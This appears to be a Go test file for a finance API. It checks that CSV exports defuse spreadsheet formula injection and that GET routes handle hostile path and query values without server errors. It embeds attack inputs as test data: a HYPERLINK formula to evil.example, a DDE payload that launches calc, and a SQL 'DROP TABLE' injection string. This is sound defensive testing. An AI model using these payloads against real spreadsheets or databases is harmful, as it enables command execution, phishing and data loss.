// formulaStart is what makes a spreadsheet evaluate a cell: = + - @, or a
// tab or carriage return before one. A plain number ("-32.00") is data.
var (
	formulaStart = regexp.MustCompile(`^[=+\-@\t\r]`)
	plainNumber  = regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?$`)
)

// checkCSVDefused plants formula text where it reaches a CSV (a property
// manager's name and bank account, a payer's name, a statement's
// counterparty, a rejected import row), then reads every CSV the API serves
// and checks that no cell would run as a formula.
func checkCSVDefused(t *testing.T, w *world) {
	t.Helper()
	w = &world{env: w.env.forT(t), obj: w.obj, ids: w.ids}
	formula := `=HYPERLINK("http://evil.example","点我")`
	w.Must("finance", "PUT", "/v1/projects/HZ-001/property-manager", map[string]any{
		"name": formula, "credit_code": payeeCode, "bank_account": "+1-555-0100"}, 200)
	w.Must("finance", "POST", "/v1/subsidy/ratings", map[string]any{"project": "HZ-001", "period": "2026-03", "score": "95"}, 201)
	run := w.Must("finance", "POST", "/v1/subsidy/runs", map[string]any{"scheme": "SHZ", "period": "2026-03"}, 201)["id"].(string)
	w.Must("finance", "POST", "/v1/funds/HZF/receipts", map[string]any{"amount": "1.00", "received_on": "2026-03-02",
		"payer": map[string]any{"name": "@SUM(1+1)*cmd|' /C calc'!A0"}, "reference": "-1+1"}, 201)
	var csvs []struct{ name, body string }
	add := func(name string, r response) {
		if r.Status != 200 {
			t.Errorf("%s: %d %.200s", name, r.Status, r.Body)
			return
		}
		csvs = append(csvs, struct{ name, body string }{name, string(r.Body)})
	}
	for _, who := range []string{"finance", "hz"} {
		add("run CSV as "+who, w.Do(who, "GET", "/v1/subsidy/runs/"+run+"?format=csv", nil))
		for _, ri := range apitest.RouteTable(w.Srv) {
			if ri.Method != http.MethodGet || !slices.Contains(ri.Query, "format") {
				continue
			}
			for v := range w.objVariants(ri) {
				p, err := w.path(ri, "HZ", v)
				if err != nil {
					t.Error(err)
					continue
				}
				sep := "?"
				if strings.Contains(p, "?") {
					sep = "&"
				}
				r := w.Do(who, "GET", p+sep+"format=csv", nil)
				if r.Status == 403 && who == "hz" {
					continue
				}
				add(p+" as "+who, r)
			}
		}
	}
	// A rejected import row comes back as CSV inside the JSON answer.
	for _, ri := range apitest.RouteTable(w.Srv) {
		if !strings.Contains(ri.Path, `receipts\:import`) {
			continue
		}
		p, _ := w.path(ri, "HZ", 1) // the household-receipts fund
		file := "household,amount,received_on,payer_name\n1-1-9,12.00,2026-03-01,住户乙\n1-1-8,not-money,2026-03-01," + csvQuote(formula) + "\n"
		r := w.Do("finance", "POST", p+"?partial=true", file, "Content-Type", "text/csv")
		if r.Status != 201 {
			t.Errorf("partial import: %d %.300s", r.Status, r.Body)
			continue
		}
		if rej, _ := r.JSON(t)["rejects_csv"].(string); rej != "" {
			csvs = append(csvs, struct{ name, body string }{"import rejects_csv", strings.TrimPrefix(rej, "\ufeff")})
		} else {
			t.Errorf("partial import with a bad row has no rejects_csv: %s", r.Body)
		}
	}
	planted := 0
	for _, c := range csvs {
		cr := csv.NewReader(strings.NewReader(c.body))
		cr.FieldsPerRecord = -1
		recs, err := cr.ReadAll()
		if err != nil {
			t.Errorf("%s is not CSV: %v", c.name, err)
			continue
		}
		for i, rec := range recs {
			for j, cell := range rec {
				if strings.Contains(cell, "HYPERLINK") || strings.Contains(cell, "SUM(") {
					planted++
				}
				if formulaStart.MatchString(cell) && !plainNumber.MatchString(cell) {
					t.Errorf("%s: row %d column %d is %q: a spreadsheet would run it (want a leading apostrophe)", c.name, i+1, j+1, cell)
				}
			}
		}
	}
	if planted == 0 {
		t.Errorf("no planted formula text reached any CSV: the check checked nothing")
	}
	t.Logf("%d CSV documents checked, %d cells with planted formula text", len(csvs), planted)
}

func csvQuote(s string) string { return `"` + strings.ReplaceAll(s, `"`, `""`) + `"` }

// TestHostileQueryAndPath: every route, GET included, with hostile path
// parameters and query values: never a server error.
func TestHostileQueryAndPath(t *testing.T) {
	t.Parallel()
	eachEnv(t, func(t *testing.T, e *env) {
		w := newWorld(t, e)
		values := []string{url.QueryEscape("'; DROP TABLE transfers; --"), "%00", "%FF%FE", "%C0%AF", strings.Repeat("9", 400),
			"-1", "1e400", "99999999999999999999", url.QueryEscape("НZ"), "%E2%80%AE", url.QueryEscape("HZ%")}
		n := 0
		before := w.counts()
		for _, ri := range apitest.RouteTable(e.Srv) {
			if ri.Method != http.MethodGet || !strings.HasPrefix(ri.Path, "/v1/") {
				continue
			}
			base, err := w.path(ri, "HZ", 0)
			if err != nil {
				t.Error(err)
				continue
			}
			base, _, _ = strings.Cut(base, "?")
			var reqs []string
			for j, q := range slices.Concat(ri.Query, []string{"after", "limit"}) {
				for _, v := range rotating(values, j+1, 4) { // four values per parameter, rotating
					reqs = append(reqs, base+"?"+q+"="+v)
				}
			}
			for _, v := range values {
				if strings.Contains(ri.Path, "/:") {
					segs := strings.Split(base, "/")
					for i, s := range strings.Split(ri.Path, "/") {
						if strings.HasPrefix(s, ":") {
							segs[i] = v
						}
					}
					reqs = append(reqs, strings.Join(segs, "/"))
				}
			}
			for i, p := range reqs {
				{ // finance and a district token take turns
					who := []string{"finance", "hz"}[i%2]
					n++
					r := w.Serve(w.request(who, "GET", p, nil))
					if r.Status >= 500 {
						t.Errorf("GET %.200s as %s: %d %.300s", p, who, r.Status, r.Body)
					} else if r.Status >= 400 && !stableCodes[r.Code()] {
						t.Errorf("GET %.200s as %s: %d with code %q", p, who, r.Status, r.Code())
					}
				}
			}
		}
		if after := w.counts(); after != before {
			t.Errorf("reads wrote:\n before %s\n after  %s", before, after)
		}
		t.Logf("%d hostile reads", n)
	})
}
